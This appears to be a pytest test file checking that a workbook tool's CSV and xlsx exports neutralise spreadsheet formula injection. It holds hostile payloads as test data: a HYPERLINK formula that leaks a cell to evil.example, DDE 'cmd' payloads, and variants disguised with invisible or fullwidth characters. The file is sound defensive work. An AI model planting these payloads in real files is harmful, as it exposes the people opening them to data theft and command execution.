"""Spreadsheet exports never hand a spreadsheet a formula; the JSON export keeps the text as it was.

A workbook is untrusted input: a student or a contact's details may hold text such as
``=HYPERLINK(…)`` or ``-2+3+cmd|…``. The CSV and xlsx exports neutralise it (OWASP's
CSV-injection guidance: a leading single quote), and real data such as a phone number
``+27 82 555 0101`` stays readable.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from iivkit import Contact, Finding, Insight, Interview, OpenQuestion, Organisation, Profile, Workbook
from iivkit.workbook.exports import FORMULA_STARTS, neutralise, neutralise_csv

HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "click me")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    "-1",
    "+27 82 555 0101",
    "\u200b=1+1",  # a zero-width space first: invisible, not whitespace
    "\ufeff@SUM(1)",  # a byte-order mark first
    "\u200b\u200b-3+cmd|' /C calc'!A0",
    "\uff1d1+1",  # fullwidth equals sign
    "\uff0bcmd|' /C calc'!A0",
    "\uff20SUM(1)",
    "\uff0d1",
]
"""Text that a spreadsheet would read as a formula, or as a number with a sign."""

SEPARATED = [
    "one, =1+1",
    "one;=1+1",
    "one;-2+3+cmd|' /C calc'!A0",
    "one\t=1+1",
    "one\n@SUM(1)",
    'quote " then ;=1+1',
    "one,\n+1",
]
"""Formula characters after a separator inside a cell: text, as long as the cell stays one cell."""

HARMLESS = [
    "plain words",
    "e-mail",
    "a+b",
    "x=1",
    "'=already quoted",
    "R25 000 a month",
    "1 + 1 = 2",
    "#N/A",
    "#DIV/0!",
    "TRUE",
    "0012",
]


def visible_lead(text: str) -> str:
    """What a spreadsheet sees first: the first character past spaces and invisible characters."""
    for char in text:
        if char in "\t\r" or not (char.isspace() or char in "\u200b\ufeff\u200c\u200d\u2060"):
            return char
    return ""


def dangerous(text: str) -> bool:
    lead = visible_lead(text)
    return lead != "" and lead in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


@pytest.fixture
def hostile_workbook(tmp_path: Path) -> Path:
    """Every hostile text in notes, names, titles, list items and the people's own fields."""
    path = tmp_path / "hostile.iiv"
    with Workbook.create(path) as wb, wb.transaction():
        wb.add(Profile(name="=cmd|' /C calc'!A0", phone="+27 82 555 0101", career_vision=HOSTILE[0]))
        org = wb.add(Organisation(name="@SUM(1)", divisions=HOSTILE[:3], notes=HOSTILE[1]))
        contact = wb.add(
            Contact(name="-2+3+cmd", phone="+27 82 555 0101", role="=1+1", organisation_id=org.id)
        )
        interview = wb.add(Interview(contact_id=contact.id, place=HOSTILE[4], keywords=["=1+1", "@x"]))
        for n, text in enumerate(HOSTILE + SEPARATED + HARMLESS):
            # Names and titles are one line, and refuse the invisible characters that can disguise
            # a name (the multi-line fields keep them, so a zero-width space before '=' is still tried).
            one_line = " ".join(text.replace("\u200b", "").replace("\ufeff", "").split())
            wb.add(Finding(claim=text, topic=one_line, source_author=one_line, notes=text))
            wb.add(Insight(interview_id=interview.id, text=text))
            wb.add(OpenQuestion(text=f"question {n}", how_to_answer=text))
    return path


def originals(path: Path) -> list[str]:
    """Every text value of the workbook as the JSON export holds it."""
    out: list[str] = []

    def walk(value: object) -> None:
        if isinstance(value, str):
            out.append(value)
        elif isinstance(value, list):
            for v in value:
                walk(v)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)

    with Workbook.open(path) as wb:
        from iivkit.workbook.interchange import export_json

        walk(json.loads(export_json(wb)))
    return out


def csv_cells(path: Path, delimiter: str) -> list[str]:
    """Every cell of every CSV file in the export, as a spreadsheet splitting on *delimiter* reads it."""
    with zipfile.ZipFile(path) as zf:
        texts = [zf.read(name).decode("utf-8") for name in zf.namelist()]
    return [
        cell for text in texts for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row
    ]


def test_the_hostile_workbook_holds_the_hostile_text(hostile_workbook: Path) -> None:
    # Guards the tests below: the models kept every hostile string as it was given.
    texts = originals(hostile_workbook)
    for text in HOSTILE + SEPARATED:
        assert text in texts, text


def test_no_csv_cell_starts_a_formula(hostile_workbook: Path, tmp_path: Path, cli) -> None:
    out = tmp_path / "export.zip"
    result = cli("export", hostile_workbook, "--format", "csv", "--out", out)
    assert result.exit_code == 0, result.output
    cells = csv_cells(out, ",")
    assert len(cells) > 100
    offending = [cell for cell in cells if dangerous(cell)]
    assert offending == []


@pytest.mark.parametrize("delimiter", [";", "\t", "|"], ids=["semicolon", "tab", "bar"])
def test_no_csv_cell_starts_a_formula_when_split_on_another_separator(
    hostile_workbook: Path, tmp_path: Path, cli, delimiter: str
) -> None:
    # Some spreadsheets guess the separator; split on the wrong one, quotes no longer hold cells.
    out = tmp_path / "export.zip"
    assert cli("export", hostile_workbook, "--format", "csv", "--out", out).exit_code == 0
    cells = csv_cells(out, delimiter)
    assert len(cells) > 100
    assert [cell for cell in cells if dangerous(cell)] == []


def test_every_csv_field_is_quoted(hostile_workbook: Path, tmp_path: Path, cli) -> None:
    # A separator inside a cell never starts a new cell, so what follows it stays text.
    out = tmp_path / "export.zip"
    assert cli("export", hostile_workbook, "--format", "csv", "--out", out).exit_code == 0
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            rows = list(csv.reader(io.StringIO(zf.read(name).decode("utf-8"))))
            written = zf.read(name).decode("utf-8")
            quoted = io.StringIO()
            csv.writer(quoted, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
            assert written == quoted.getvalue(), name


def test_csv_cells_keep_their_text_behind_one_quote(hostile_workbook: Path, tmp_path: Path, cli) -> None:
    out = tmp_path / "export.zip"
    assert cli("export", hostile_workbook, "--format", "csv", "--out", out).exit_code == 0
    cells = csv_cells(out, ",")
    for text in HOSTILE:
        assert text not in cells, text
        assert "'" + text in cells, text
    for text in HARMLESS:
        assert text in cells, text
    # Formula text after a separator or line break inside a cell gets its own quote, in case the
    # file is split on that separator; everything else is kept.
    for text in SEPARATED:
        assert text not in cells, text
        assert neutralise_csv(text) in cells, text
    assert "one;'=1+1" in cells and "one\n'@SUM(1)" in cells and "one, '=1+1" in cells
    assert "'+27 82 555 0101" in cells


def test_no_xlsx_cell_is_or_starts_a_formula(hostile_workbook: Path, tmp_path: Path, cli) -> None:
    out = tmp_path / "export.xlsx"
    result = cli("export", hostile_workbook, "--format", "xlsx", "--out", out)
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    # Text stays text: not a formula, not an error code such as #N/A, not a number or a boolean.
    assert {c.data_type for c in cells if isinstance(c.value, str)} == {"s"}
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if dangerous(t)] == []
    for text in HOSTILE:
        assert "'" + text in texts, text
    for text in SEPARATED + HARMLESS:
        assert text in texts, text
    with zipfile.ZipFile(out) as zf:
        sheets = [zf.read(n).decode("utf-8") for n in zf.namelist() if n.startswith("xl/worksheets/")]
    assert all("<f>" not in xml for xml in sheets)


def test_importing_the_json_export_restores_the_original_text(
    hostile_workbook: Path, tmp_path: Path, cli
) -> None:
    exported = tmp_path / "export.json"
    assert cli("export", hostile_workbook, "--format", "json", "--out", exported).exit_code == 0
    text = exported.read_text(encoding="utf-8")
    for original in HOSTILE + SEPARATED:
        assert json.dumps(original, ensure_ascii=False) in text, original
    copy = tmp_path / "copy.iiv"
    result = cli("import", copy, exported)
    assert result.exit_code == 0, result.output
    assert originals(copy) == originals(hostile_workbook)
    again = tmp_path / "again.json"
    assert cli("export", copy, "--format", "json", "--out", again).exit_code == 0
    assert again.read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-1",
        "@x",
        "\t=1",
        "\tplain",
        "\rplain",
        "  =1+1",
        " \t @SUM(1)",
        "\u00a0=1",
        "\u3000-1",
        "\u200b =1",
        "\uff1d1",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, *SEPARATED, "", "   ", 3, None, True])
def test_other_values_are_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_the_rule_covers_owasps_characters() -> None:
    assert set("=+-@\t\r") <= FORMULA_STARTS
